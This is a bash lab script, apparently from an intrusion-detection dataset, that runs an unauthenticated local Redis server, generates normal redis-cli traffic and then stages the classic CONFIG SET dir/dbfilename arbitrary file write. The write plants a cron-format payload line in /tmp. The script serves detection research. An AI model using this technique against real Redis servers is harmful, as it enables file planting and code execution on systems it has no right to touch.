#!/usr/bin/env bash
# redis-config-write: redis-server without authentication, started with
# --enable-protected-configs yes (the misconfiguration that lets clients
# change `dir` / `dbfilename` at run time, as Redis < 7 always did).
# Normal: a bounded redis-cli workload (SET/GET/INCR/HSET/LPUSH/EXPIRE, an
# occasional SAVE of the regular dump file).
# Attack: the classic arbitrary file write: SET a payload, CONFIG SET dir
# /tmp, CONFIG SET dbfilename chids-lab-x, SAVE (writes /tmp/chids-lab-x).
set -euo pipefail
SCENARIO=redis-config-write
PORT=${PORT:-16380}
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
need /usr/bin/redis-server redis-cli
SERVER_CMD=(/usr/bin/redis-server --bind 127.0.0.1 --port "$PORT" --protected-mode no
	--daemonize no --save "" --appendonly no --dir "$SRV" --dbfilename dump.rdb
	--logfile "" --enable-protected-configs yes)
DROP=chids-lab-x

lab_setup() { rm -rf "$SRV"; mkdir -p "$SRV"; }
lab_prepare() { rm -f "$SRV/dump.rdb" "/tmp/$DROP"; }
lab_cleanup() { rm -f "/tmp/$DROP"; }

lab_normal_load() {
	local i end_s=${REC_END%.*}
	for ((i = 0; i < LOAD_MAX; i++)); do
		[ "$(date +%s)" -le "$end_s" ] || break
		kill -0 "$REC_PID" 2>/dev/null || break
		{
			echo "SET user:$((i % 50)) name-$i"
			echo "GET user:$(((i * 7) % 50))"
			echo "INCR hits"
			echo "HSET session:$((i % 10)) last $i agent curl"
			echo "HGETALL session:$(((i + 3) % 10))"
			echo "LPUSH recent $i"
			echo "LTRIM recent 0 19"
			echo "LRANGE recent 0 4"
			echo "EXPIRE session:$((i % 10)) 60"
			echo "EXISTS user:$((i % 13))"
			[ $((i % 25)) = 24 ] && echo "SAVE"
			echo "DBSIZE"
		} | timeout 3 redis-cli -p "$PORT" >/dev/null 2>&1 || true
		sleep 0.1
	done
}

lab_attack() {
	local rc=(timeout 5 redis-cli -p "$PORT")
	"${rc[@]}" SET pwn $'\n\n*/1 * * * * root id > /tmp/chids-lab-pwned\n\n'
	"${rc[@]}" CONFIG GET dir
	"${rc[@]}" CONFIG SET dir /tmp
	"${rc[@]}" CONFIG SET dbfilename "$DROP"
	"${rc[@]}" SAVE
	ls -l "/tmp/$DROP"
}

lab_main
